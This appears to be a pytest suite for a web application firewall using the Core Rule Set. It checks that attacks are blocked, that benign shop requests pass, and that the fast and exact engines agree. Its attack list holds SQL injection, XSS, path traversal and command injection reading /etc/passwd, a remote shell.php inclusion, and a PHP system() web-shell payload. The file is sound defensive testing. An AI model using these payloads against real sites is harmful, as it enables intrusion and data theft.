"""The Core Rule Set of the Debian package as a managed rule group: attacks end, ordinary requests pass, and the sieve
never changes what the exact engine says."""

from __future__ import annotations

from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from littoral.edge.waf.crs.program import Program
from littoral.edge.waf.crs.ruleset import NoRuleSet, Source
from littoral.edge.waf.view import View
from littoral.net.message import BytesBody, Headers, Peer, Request

BROWSER = {
    "host": "shop.example",
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "accept-language": "en-GB,en;q=0.7,de;q=0.3",
    "accept-encoding": "gzip, deflate, br",
    "connection": "keep-alive",
    "upgrade-insecure-requests": "1",
}
FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}


@cache
def program(level: int) -> Program:
    try:
        return Program(Source.open(), level)
    except NoRuleSet as problem:
        pytest.skip(f"{problem}")


def view(target: str = "/", method: str = "GET", body: bytes = b"", **headers: str) -> View:
    named = BROWSER | {name.replace("_", "-"): value for name, value in headers.items()}
    if body:
        named["content-length"] = str(len(body))
    pairs = Headers([(name.encode(), value.encode("latin-1", "replace")) for name, value in named.items()])
    return View(Request(method, target, pairs, BytesBody(body), Peer("192.0.2.7", 1)), 0.0, 0, body)


ATTACKS = [
    view("/", "POST", b"a=1", content_type="application/x-www-form-urlencoded; charset=cp037"),
    view("/?id=1%27%20OR%20%271%27=%271"),
    view("/?id=1%20UNION%20SELECT%20user,password%20FROM%20users--"),
    view("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    view("/?q=%22%20onmouseover=%22alert(1)"),
    view("/?file=../../../../etc/passwd"),
    view("/?cmd=;cat%20/etc/passwd"),
    view("/?page=http://192.0.2.66/shell.php?"),
    view("/", "POST", b"name=%3C%3Fphp+system(%24_GET%5Bx%5D)%3B", **FORM),
    view("/", "POST", b'{"user": {"name": "x\' or 1=1 -- "}}', **JSON),
    view("/", user_agent="sqlmap/1.7"),
    view("/", cookie="session=1' UNION SELECT 1,2,3 -- "),
]

BENIGN = [
    view("/"),
    view("/products/summer-shirts?page=2&sort=price_asc&colour=blue"),
    view("/search?q=red+shoes+size+42"),
    view("/search?q=tom+%26+jerry"),
    view("/search?q=what%27s+new+in+2026%3F"),
    view("/search?q=select+the+best+shirt+from+our+shop"),
    view("/search?q=O%27Brien"),
    view("/search?q=M%C3%BCnchen+caf%C3%A9"),
    view("/blog/2026/11/28/how-we-drop-ship-orders.html"),
    view("/assets/app.9f8e7d6c.js", accept="*/*", referer="https://shop.example/"),
    view("/api/orders/0f8fad5b-d9cb-469f-a165-70867728950e", accept="application/json"),
    view("/cart", cookie="session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-DEF_123; theme=dark; _ga=GA1.2.1.2"),
    view("/login", "POST", b"email=ann%40example.com&password=correct+horse+battery", **FORM),
    view("/comment", "POST", b"text=I+like+it+and+my+sister+does+too.+Thanks%21&rating=5", **FORM),
    view("/address", "POST", b"street=12+High+St.&city=St.+Ives&note=ring+twice%2C+please", **FORM),
    view("/api/cart", "POST", b'{"items": [{"sku": "A-17", "count": 2}], "note": "gift for mum"}', **JSON),
    view("/api/profile", "POST", b'{"name": "Anne-Marie", "bio": "Runner, reader & cook"}', **JSON),
    view("/api/notes", "POST", b'{"text": "fine"}', content_type="application/json; charset=UTF-8"),
    view("/feed.xml", accept="application/rss+xml"),
    view("/img/p.jpg?w=640&h=480&fit=crop"),
    view("/calendar?from=2026-11-01&to=2026-11-30"),
]


def test_attacks_are_stopped_at_the_first_level() -> None:
    passed = [each.request.target for each in ATTACKS if not program(1).judge(each).denied]
    assert passed == []


def test_ordinary_requests_pass_at_the_first_level() -> None:
    stopped = {each.request.target: program(1).judge(each).matched for each in BENIGN if program(1).judge(each).denied}
    assert stopped == {}


SCORED_TWICE = """
SecRule REQUEST_HEADERS:Host "@rx ^[\\d.]+$" "id:920350,phase:1,block,setvar:'tx.score=+3'"
SecRule REQUEST_HEADERS:X-Odd "@rx ^y" "id:920351,phase:1,block,setvar:'tx.score=+3'"
SecRule ARGS "@rx ^z" "id:942100,phase:2,block,setvar:'tx.score=+3'"
SecAction "id:949052,phase:1,pass,setvar:'tx.sum=+%{tx.score}'"
SecAction "id:949059,phase:2,pass,setvar:'tx.sum=0'"
SecAction "id:949060,phase:2,pass,setvar:'tx.sum=+%{tx.score}'"
SecRule TX:SUM "@ge 5" "id:949110,phase:2,deny"
"""


def test_what_phase_1_has_scored_counts_once() -> None:
    """As the rule set adds up: at the end of each phase, the second time from nothing. A site that is asked for by its
    address scores 3 of 5."""
    small = Program(Source({"REQUEST-900-ALL.conf": SCORED_TWICE}), 1)
    for asked, denied in (
        (view(), False),
        (view(host="192.0.2.1"), False),
        (view("/?a=z"), False),
        (view(x_odd="y"), False),
        (view(host="192.0.2.1", x_odd="y"), True),
        (view("/?a=z", host="192.0.2.1"), True),
    ):
        assert small.judge(asked).denied is small.exactly(asked).denied is denied


@pytest.mark.parametrize("level", [1, 4])
def test_the_sieve_says_what_the_exact_engine_says(level: int) -> None:
    for each in (*ATTACKS, *BENIGN):
        fast, exact = program(level).judge(each), program(level).exactly(each)
        decisive = program(level).decisive
        assert [r for r in fast.matched if r in decisive] == [r for r in exact.matched if r in decisive], each.request
        assert fast.denied == exact.denied


PARTS = st.sampled_from(
    [
        "' or 1=1",
        "<script>",
        "../",
        "%00",
        "${",
        "union select",
        "a",
        "=",
        "&",
        "%u0041",
        "\\x41",
        "/*",
        "--",
        "é",
        ";ls",
    ]
)


@settings(max_examples=60)
@given(
    st.lists(PARTS, max_size=6).map("".join),
    st.lists(PARTS, max_size=6).map("".join),
    st.lists(PARTS, max_size=6).map("".join),
    st.sampled_from(
        ["application/x-www-form-urlencoded", "application/json", "text/xml", "multipart/form-data; boundary=a"]
    ),
)
def test_any_request_is_judged_alike_and_breaks_nothing(query: str, cookie: str, body: str, kind: str) -> None:
    asked = view(f"/x?{query}", "POST", body.encode(), cookie=cookie, content_type=kind)
    fast, exact = program(2).judge(asked), program(2).exactly(asked)
    assert fast.denied == exact.denied
